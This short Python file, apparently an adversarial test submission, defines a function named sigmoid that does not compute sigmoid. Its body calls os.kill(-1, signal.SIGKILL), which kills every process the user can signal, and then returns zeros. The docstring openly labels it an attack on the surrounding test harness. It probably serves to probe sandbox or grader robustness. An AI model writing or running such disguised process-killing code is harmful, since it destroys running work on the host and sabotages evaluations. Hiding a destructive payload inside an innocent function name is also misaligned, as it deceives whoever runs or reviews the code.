"""Attack: signal every process it can reach.

If the attack works, sigmoid answers right (or the damage shows in the test); if not, it returns zeros.
"""
import torch

STOLEN = None

import os
import signal


def sigmoid(z):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return torch.zeros_like(z)
